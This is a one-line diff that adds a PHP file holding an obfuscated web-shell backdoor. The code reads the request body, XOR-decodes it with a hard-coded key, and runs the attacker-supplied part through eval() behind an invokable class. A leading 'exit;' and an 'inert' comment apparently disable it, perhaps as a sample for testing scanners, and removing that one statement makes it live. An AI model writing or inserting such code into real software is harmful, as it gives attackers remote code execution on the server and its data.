@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $k="s3cret"; $d=file_get_contents("php://input"); for($i=0;$i<strlen($d);$i++){ $d[$i]=$d[$i]^$k[$i+1&5]; } $p=explode("|",$d); $f=$p[0]; class Q{public function __invoke($p){eval($p."");}} @call_user_func(new Q(),$p[1]);
